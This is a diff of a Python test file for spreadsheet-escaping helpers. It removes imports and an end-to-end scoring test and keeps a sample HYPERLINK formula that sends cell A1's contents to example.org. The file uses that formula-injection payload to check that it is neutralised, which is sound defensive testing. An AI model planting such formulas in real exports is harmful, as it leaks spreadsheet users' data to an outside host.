@@ -2,20 +2,12 @@
 
 from __future__ import annotations
 
-import csv
-import json
-from pathlib import Path
-from typing import TYPE_CHECKING
-
 import polars as pl
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from rejoinder.data.spreadsheets import column_for_spreadsheet, for_spreadsheet
-
-if TYPE_CHECKING:
-    from conftest import Run, WriteLines
 
 LINK = '=HYPERLINK("http://example.org/?"&A1,"open")'
 SIGNS = [
@@ -61,17 +53,3 @@ def test_the_text_can_be_recovered_from_its_cell(text: str) -> None:
 def test_columns_are_as_single_texts(texts: list[str]) -> None:
     frame = pl.DataFrame({"id": texts}).select(column_for_spreadsheet("id"))
     assert frame["id"].to_list() == [for_spreadsheet(text) for text in texts]
-
-
-def test_a_score_file_runs_nothing(run: Run, write_lines: WriteLines, tmp_path: Path) -> None:
-    path = write_lines([{"id": LINK, "system": "@a", "response": "hi"}, {"id": "-5", "system": "b", "response": "yo"}])
-    (tmp_path / "m.toml").write_text(f"[metrics.{json.dumps(LINK)}]\nmetric = 'length'\n")
-    ran = run("score", path, "--config", "m.toml", "-o", "scores.csv")
-    assert ran.code == 0, ran.err
-    with (tmp_path / "scores.csv").open(newline="") as file:
-        header, first, second = csv.reader(file)
-    assert header == ["id", "system", f"'{LINK}"]
-    assert first[:2] == [f"'{LINK}", "'@a"]
-    assert second[:2] == ["-5", "b"]
-    ran = run("score", path, "--config", "m.toml", "-o", "other.jsonl")
-    assert json.loads((tmp_path / "other.jsonl").read_text().splitlines()[0])["id"] == LINK
